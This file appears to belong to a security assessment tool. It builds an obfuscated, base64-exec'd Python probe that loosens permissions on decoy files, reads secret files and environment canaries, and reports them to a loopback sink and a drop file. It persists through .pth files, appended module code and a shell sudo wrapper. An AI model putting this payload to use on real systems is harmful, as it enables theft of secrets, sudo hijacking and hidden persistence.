@@ -1,0 +1,152 @@
+using System.Collections.Immutable;
+using System.Text;
+using System.Text.Json;
+
+namespace Sandpiper.Assessment.Probes;
+
+/// <summary>
+/// What the code of a probe does, wherever it runs: adds one line to each decoy that it can write (a read-only mode is no obstacle to the
+/// owner of a file), reads each that it can read and sends what it read to the sink, and leaves copies of itself where they would run
+/// later. It creates no file but those copies.
+/// </summary>
+/// <remarks>
+/// It never says of itself how it fared: whether a line arrived is looked at from outside. Every path is one of the replica's.
+/// </remarks>
+internal static class Payload
+{
+    private const string Source = """
+        import os, socket, json
+        C = json.loads(CONF)
+        TAG = "%s %s %d" % (C["nonce"], TRIGGER, os.getuid())
+        def line(trigger):
+            return "import base64;exec(base64.b64decode('%s').decode(),{'TRIGGER':'%s','CONF':%r,'B64':'%s'})" % (B64, trigger, CONF, B64)
+        def attempt(act, *arguments):
+            try:
+                return act(*arguments)
+            except Exception:
+                return None
+        def loosen(path, mode):
+            if os.path.exists(path) and not os.access(path, os.W_OK):
+                os.chmod(path, mode)
+        def tag(path):
+            attempt(loosen, path, 0o644)
+            f = os.open(path, os.O_WRONLY | os.O_APPEND)
+            os.write(f, ("# " + TAG + "\n").encode())
+            os.close(f)
+        def read(path):
+            with open(path) as f:
+                return f.read(4096).strip()
+        def create(path, text):
+            if os.path.exists(path):
+                return
+            os.makedirs(os.path.dirname(path), exist_ok=True)
+            attempt(loosen, os.path.dirname(path), 0o755)
+            with open(path, "x") as f:
+                f.write(text + "\n")
+        def append(path, text):
+            attempt(loosen, path, 0o644)
+            with open(path) as f:
+                if "base64" in f.read():
+                    return
+            with open(path, "a") as f:
+                f.write("\n" + text + "\n")
+        def tell(words):
+            s = socket.create_connection(("127.0.0.1", C["port"]), 5)
+            s.sendall(("%s %s\n" % (TAG, words)).encode())
+            s.close()
+        for path in C["write"]:
+            attempt(tag, path)
+        found = [attempt(read, path) for path in C["read"]] + [os.environ.get(n) for n in C["env"]]
+        found = [w for w in found if w]
+        def drop():
+            f = os.open(C["drop"], os.O_WRONLY | os.O_APPEND)
+            os.write(f, ("%s %s\n" % (TAG, " ".join(found))).encode())
+            os.close(f)
+        attempt(tell, " ".join(found))
+        attempt(drop)
+        for trigger, path in C["pth"]:
+            attempt(create, path, line(trigger))
+        for trigger, path in C["code"]:
+            attempt(append, path, line(trigger))
+        for trigger, path in C["shell"]:
+            attempt(append, path, "sudo() { command sudo /usr/bin/python3 -I -S -c \"%s\"; command sudo \"$@\"; }"
+                % line(trigger).replace("\\", "\\\\").replace('"', '\\"'))
+        """;
+
+    /// <summary>One line of Python that begins with <c>import</c>: the whole payload.</summary>
+    /// <param name="trigger">How it came to run, one word; tags carry it.</param>
+    public static string Line(string trigger, Aim aim)
+    {
+        string source = Convert.ToBase64String(Encoding.UTF8.GetBytes(Source));
+        string literal = Quoted(aim.ToJson());
+        return $"import base64;exec(base64.b64decode('{source}').decode(),{{'TRIGGER':'{trigger}','CONF':{literal},'B64':'{source}'}})";
+    }
+
+    // As Python writes one of ASCII without a quote in it; JSON's own encoder escapes those.
+    private static string Quoted(string json) => $"'{json.Replace("\\", "\\\\", StringComparison.Ordinal)}'";
+}
+
+/// <summary>Where a payload aims.</summary>
+/// <param name="Nonce">The trial's own, by which its lines are known.</param>
+/// <param name="Port">Of the sink, on loopback.</param>
+internal sealed record Aim(string Nonce, int Port)
+{
+    /// <summary>Decoys.</summary>
+    public required ImmutableArray<Decoy> Decoys { get; init; }
+
+    /// <summary>Variables of the environment that hold canaries.</summary>
+    public ImmutableArray<string> Variables { get; init; } = [];
+
+    /// <summary>A file that everybody may add to: a way out where there is no network.</summary>
+    public required string Drop { get; init; }
+
+    /// <summary>Start-up files to make, each with its trigger.</summary>
+    public ImmutableArray<(string Trigger, string Path)> StartUpFiles { get; init; } = [];
+
+    /// <summary>Modules to add to.</summary>
+    public ImmutableArray<(string Trigger, string Path)> Modules { get; init; } = [];
+
+    /// <summary>Start files of a shell to add to.</summary>
+    public ImmutableArray<(string Trigger, string Path)> ShellFiles { get; init; } = [];
+
+    /// <summary>Sent along into every package: what the payload needs to know.</summary>
+    public string ToJson()
+    {
+        using var bytes = new MemoryStream();
+        using (var json = new Utf8JsonWriter(bytes))
+        {
+            json.WriteStartObject();
+            json.WriteString("nonce", Nonce);
+            json.WriteNumber("port", Port);
+            json.WriteString("drop", Drop);
+            Write("write", Decoys.Where(d => !d.IsSecret).Select(d => d.Path));
+            Write("read", Decoys.Where(d => d.IsSecret).Select(d => d.Path));
+            Write("env", Variables);
+            WritePairs("pth", StartUpFiles);
+            WritePairs("code", Modules);
+            WritePairs("shell", ShellFiles);
+            json.WriteEndObject();
+
+            void Write(string name, IEnumerable<string> values)
+            {
+                json.WriteStartArray(name);
+                foreach (string value in values) json.WriteStringValue(value);
+                json.WriteEndArray();
+            }
+
+            void WritePairs(string name, ImmutableArray<(string Trigger, string Path)> pairs)
+            {
+                json.WriteStartArray(name);
+                foreach (var (trigger, path) in pairs)
+                {
+                    json.WriteStartArray();
+                    json.WriteStringValue(trigger);
+                    json.WriteStringValue(path);
+                    json.WriteEndArray();
+                }
+                json.WriteEndArray();
+            }
+        }
+        return Encoding.UTF8.GetString(bytes.ToArray());
+    }
+}
